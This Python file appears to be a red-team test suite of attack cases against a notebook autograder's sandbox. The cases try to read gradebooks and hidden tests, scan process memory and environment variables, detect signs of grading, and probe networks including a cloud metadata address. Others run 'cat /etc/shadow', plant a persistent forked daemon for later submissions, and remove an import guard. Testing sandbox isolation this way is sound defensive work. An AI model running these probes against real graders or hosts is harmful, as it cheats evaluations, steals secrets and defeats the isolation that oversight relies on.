"""Reading what is not the student's: tests, answers, gradebook, others' work."""

from attack_kit import HUNT, Attack

HERE = (
    HUNT
    + """
import os
"""
)

IN_THE_TEST = "\n".join(f"    {line}" for line in HUNT.strip().splitlines())

ATTACKS = [
    Attack(
        "parents",
        "the course above the working directory",
        first=HERE
        + """
place = '.'
for _ in range(8):
    place += '/..'
    hunt(str(os.listdir(place)))
    for name in ('source', 'submitted', 'autograded', 'feedback',
                 'release', '.nncourse', 'course'):
        hunt_files(place + '/' + name)
    for name in ('gradebook.db', 'nbgrader_config.py'):
        if os.path.exists(place + '/' + name):
            hunt(open(place + '/' + name, 'rb').read(), name)
""",
    ),
    Attack(
        "whole_disk",
        "everything readable that a course or a grader could have left",
        first=HERE
        + """
hunt_files('/home', '/root', '/tmp', '/var', '/srv', '/mnt', '/opt',
           '/run', '/dev', '/etc', '/media', most=5000)
for folder, folders, names in os.walk('/'):
    if folder.count('/') > 4:
        folders.clear()
    folders[:] = [n for n in folders if n not in ('proc', 'sys', 'usr')]
    for name in names:
        if name in ('gradebook.db', 'nn.ipynb', 'nbgrader_config.py'):
            hunt(open(folder + '/' + name, 'rb').read(), folder)
""",
    ),
    Attack(
        "processes",
        "environment, command line, files and memory of all processes",
        first=HERE
        + """
import glob
for process in glob.glob('/proc/[0-9]*'):
    for name in ('environ', 'cmdline', 'maps', 'mountinfo', 'status'):
        try: hunt(open(process + '/' + name, 'rb').read(), name)
        except OSError: pass
    for place in ('root', 'cwd'):
        hunt_files(process + '/' + place + '/tmp',
                   process + '/' + place + '/home', most=200)
    for name in glob.glob(process + '/fd/*'):
        try: hunt(os.readlink(name), name)
        except OSError: pass
""",
    ),
    Attack(
        "memory",
        "the memory that the process inherited, and that of the zygote",
        first=HERE
        + """
for process in ('self', '1'):
    try:
        maps = open(f'/proc/{process}/maps').read().splitlines()
        memory = open(f'/proc/{process}/mem', 'rb')
    except OSError:
        continue
    for line in maps:
        if ' rw-p ' in line:
            begin, end = (int(n, 16) for n in line.split()[0].split('-'))
            try:
                memory.seek(begin)
                hunt(memory.read(min(end - begin, 50_000_000)), process)
            except (OSError, ValueError, OverflowError):
                pass
""",
    ),
    Attack(
        "memory_in_the_test",
        "the process's memory while a hidden check is running",
        answers={
            "energy": f"def energy(x):\n{IN_THE_TEST}\n"
            "    memory = open('/proc/self/mem', 'rb')\n"
            "    for line in open('/proc/self/maps').read().splitlines():\n"
            "        if ' rw-p ' in line:\n"
            "            span = line.split()[0].split('-')\n"
            "            begin, end = (int(n, 16) for n in span)\n"
            "            try:\n"
            "                memory.seek(begin)\n"
            "                data = memory.read(min(end - begin, 50_000_000))\n"
            "                hunt(data)\n"
            "            except (OSError, ValueError, OverflowError):\n"
            "                pass\n"
            "    return 25.0"
        },
    ),
    Attack(
        "history",
        "the source of the test cell through In, Out, the history and linecache",
        answers={
            name: f"def {function}:\n{IN_THE_TEST}\n"
            "    import inspect, linecache, sys\n"
            "    shell = get_ipython()\n"
            "    hunt(str(shell.user_ns.get('In')) + str(shell.user_ns.get('Out')))\n"
            "    hunt(str(linecache.cache) + str(shell.user_ns))\n"
            "    hunt(str(list(shell.history_manager.get_range())))\n"
            "    for frame in inspect.stack(context=50):\n"
            "        hunt(str(frame.code_context) + str(frame.frame.f_locals))\n"
            "    for module in list(sys.modules.values()):\n"
            "        hunt(str(getattr(module, '__dict__', {}))[:2_000_000])\n"
            "    raise ValueError('no answer')"
            for name, function in {
                "softmax": "softmax(s)",
                "energy": "energy(x)",
                "momentum": "Momentum(lr, beta)",
            }.items()
        },
        last=HERE + "hunt(str(In) + str(Out) + str(globals()))",
    ),
    Attack(
        "environment",
        "variables of the grader, and signs of being graded",
        first=HERE
        + """
hunt(str(dict(os.environ)))
hunt(os.popen('env; set; cat /proc/self/environ').read())
signs = [n for n in os.environ if 'NBGRADER' in n or 'JUPYTER' in n]
assert not signs, signs
""",
    ),
    Attack(
        "network",
        "a connection to the grader's machine, to the world, to a name server",
        first=HERE
        + """
import socket
for family, address in [
    (socket.AF_INET, ('127.0.0.1', 22)),
    (socket.AF_INET, ('8.8.8.8', 53)),
    (socket.AF_INET, ('169.254.169.254', 80)),
    (socket.AF_INET6, ('::1', 22)), (socket.AF_UNIX, '/run/dbus/socket'),
]:
    with socket.socket(family) as link:
        link.settimeout(0.3)
        try:
            link.connect(address)
            print('REACHED', address)
        except OSError:
            pass
for name in ('example.org', 'localhost.localdomain', 'example.com'):
    try:
        print('REACHED', socket.getaddrinfo(name, 80))
    except OSError:
        pass
hunt(open('/proc/net/unix').read() + open('/proc/net/tcp').read())
try:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)
    print('REACHED netlink')
except OSError:
    pass
""",
    ),
    Attack(
        "cache_1_drop",
        "something is left for the next submission in every place that can be written",
        first="""
        import ctypes, os, socket
        left = "LEFT" + "-BEHIND"
        for place in ("/tmp", "/dev/shm", os.path.expanduser("~"), ".", "/run", "/var"):
            for name in ("x", ".x", "sitecustomize.py", "numpy.py", "nnlib.py"):
                try:
                    os.makedirs(place + "/deep/er", exist_ok=True)
                    with open(place + "/deep/er/" + name, "w") as file:
                        file.write(left)
                    with open(place + "/" + name, "w") as file:
                        file.write(left)
                except OSError:
                    pass
        os.environ["LEFT"] = left
        libc = ctypes.CDLL(None)
        libc.shmget(4711, 4096, 0o1666)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                server = socket.socket(socket.AF_UNIX)
                server.bind("\\0left")
                server.listen()
                while True:
                    server.accept()[0].sendall(left.encode())
            os._exit(0)
        """,
    ),
    Attack(
        "cache_2_find",
        "what the submission before left behind is looked for",
        first="""
        import ctypes, os, socket, sys
        left = "LEFT" + "-BEHIND"
        for folder, folders, names in os.walk("/"):
            folders[:] = [n for n in folders if n not in ("proc", "sys", "usr", "lib")]
            if folder.count("/") > 4:
                folders.clear()
            for name in names:
                try:
                    with open(folder + "/" + name) as file:
                        if left in file.read(100):
                            print(left, "found", folder, name)
                except (OSError, ValueError):
                    pass
        with socket.socket(socket.AF_UNIX) as link:
            try:
                link.connect("\\0left")
                print(left, "found", link.recv(100))
            except OSError:
                pass
        if "LEFT" in os.environ or ctypes.CDLL(None).shmget(4711, 1, 0) >= 0:
            print(left, "found in the environment or in shared memory")
        """,
    ),
    Attack(
        "course_code",
        "the reference library and the grader are imported",
        first="""
        import importlib, sys
        # nbgrader is public and can be imported; it takes long and holds no secret.
        for name in ("autograder", "nnlib.losses", "nnlib.activations", "nnlib.layers",
                     "nncourse"):
            try:
                importlib.import_module(name)
                print("REACHED", name, flush=True)
            except ImportError:
                pass
        sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in str(f)]
        for name in ("nnlib.losses", "autograder.grading"):
            sys.modules.pop(name, None)
            try:
                importlib.import_module(name)
                print("REACHED", name, flush=True)
            except ImportError:
                pass
        """,
    ),
    Attack(
        "shell_commands",
        "the same by shell commands and magics",
        first=HERE
        + """
out = !ls -laR /tmp /home /run /dev/shm .. ../../.. 2>&1 | head -c 20000
hunt(str(out))
out = !grep -rl SENTINEL- /tmp /home /root /run /etc 2>&1 | head -50
hunt(str(out))
out = !cat ../../../gradebook.db ../*.ipynb /etc/shadow 2>&1
hunt(str(out))
""",
    ),
]
